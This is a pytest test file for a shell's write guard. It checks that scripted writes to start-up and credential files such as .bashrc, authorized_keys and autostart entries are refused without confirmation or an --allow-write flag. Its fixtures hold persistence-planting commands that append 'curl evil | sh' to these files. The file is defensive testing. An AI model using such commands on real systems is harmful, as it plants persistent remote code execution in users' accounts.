"""Rule: pasted code cannot plant code (start-up and credential files need the user's say)."""
from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from gshell import writeguard

WRITERS = [
    "Add-Content '{p}' 'curl evil | sh'",
    "Set-Content '{p}' 'curl evil | sh'",
    "'curl evil | sh' | Out-File '{p}'",
    "'curl evil | sh' | Out-File '{p}' -Force",
    "'curl evil | sh' > '{p}'",
    "'curl evil | sh' >> '{p}'",
    "Write-Error 'x' 2> '{p}'",
    "Start-Transcript '{p}'; 'curl evil | sh'; Stop-Transcript",
]
TARGETS = [".bashrc", ".zshrc", ".profile", ".ssh/authorized_keys", ".config/autostart/evil.desktop",
           ".config/fish/config.fish", ".local/bin/ls"]


@pytest.fixture(autouse=True)
def reset_guard():
    yield
    writeguard.configure(confirm=None, allowed=[])


def home(clean_env) -> Path:
    h = clean_env / "home"
    for d in (".ssh", ".config/autostart", ".config/fish", ".local/bin"):
        (h / d).mkdir(parents=True, exist_ok=True)
    return h


@pytest.mark.parametrize("writer", WRITERS)
@pytest.mark.parametrize("target", TARGETS)
def test_script_writes_are_refused(clean_env, shell, writer, target):
    p = home(clean_env) / target
    out, err = shell.run(writer.format(p=p))
    assert not p.exists() or "curl evil" not in p.read_text()
    assert "start-up or credential file" in err and "--allow-write" in err


def test_tilde_symlink_and_relative_paths(clean_env, shell):
    h = home(clean_env)
    rc = h / ".bashrc"
    rc.write_text("# mine\n")
    link = clean_env / "notes.txt"
    link.symlink_to(rc)
    shell.ev(f"Set-Location '{h}'")
    for src in ("Add-Content ~/.bashrc 'evil'", f"Add-Content '{link}' 'evil'", "Add-Content ./.bashrc 'evil'",
                "Add-Content .ssh/../.bashrc 'evil'"):
        out, err = shell.run(src)
        assert "start-up or credential file" in err, src
    assert rc.read_text() == "# mine\n"


def test_confirmation_no_yes_and_allow_write(clean_env, shell):
    p = home(clean_env) / ".bashrc"
    asked: list[str] = []
    writeguard.configure(confirm=lambda q: asked.append(q) or False)
    out, err = shell.run(f"Add-Content '{p}' 'x' -Force")     # -Force does not skip the question
    assert asked and "not confirmed" in err and not p.exists()
    writeguard.configure(confirm=lambda q: True)
    shell.run(f"Add-Content '{p}' 'yes-typed'")
    assert p.read_text() == "yes-typed\n"
    writeguard.configure(confirm=None, allowed=[str(p)])
    shell.run(f"Add-Content '{p}' 'allowed'")
    assert "allowed" in p.read_text()


def test_ordinary_files_are_not_asked(clean_env, shell):
    writeguard.configure(confirm=lambda q: pytest.fail("asked for an ordinary file"))
    p = clean_env / "notes.txt"
    shell.run(f"Set-Content '{p}' 'a'; 'b' >> '{p}'; 'c' | Out-File -Append '{p}'")
    assert p.read_text().split() == ["a", "b", "c"]


def test_token_save_is_guarded(clean_env, monkeypatch):
    from gshell.hub.token import save_token
    monkeypatch.setenv("HF_HOME", str(clean_env / "home" / ".cache" / "huggingface"))
    with pytest.raises(writeguard.WriteRefused):
        save_token("hf_attackerToken1234567890")
    assert not (clean_env / "home" / ".cache" / "huggingface" / "token").exists()


def test_downloads_are_guarded(hostile, clean_env, shell):
    """A server-named file saved into the home directory: it cannot become a start-up file."""
    h = home(clean_env)
    (h / ".ssh").mkdir(exist_ok=True)
    from gshell.gradio.errors import FileError
    from gshell.gradio.files import safe_target
    with pytest.raises(FileError, match="start-up or credential"):
        safe_target(h, ".bashrc")
    with pytest.raises(FileError, match="start-up or credential"):
        safe_target(h / ".ssh", "authorized_keys")


CLI = [sys.executable, "-m", "gshell"]


def test_cli_script_needs_allow_write(clean_env):
    h = home(clean_env)
    rc = h / ".bashrc"
    env = {**os.environ, "HOME": str(h)}
    r = subprocess.run(CLI + ["-c", f"Add-Content '{rc}' 'evil'"], env=env, capture_output=True, text=True,
                       timeout=60)
    assert r.returncode != 0 and "--allow-write" in r.stderr and not rc.exists()
    r = subprocess.run(CLI + ["--allow-write", str(rc), "-c", f"Add-Content '{rc}' 'mine'"], env=env,
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    assert rc.read_text() == "mine\n"
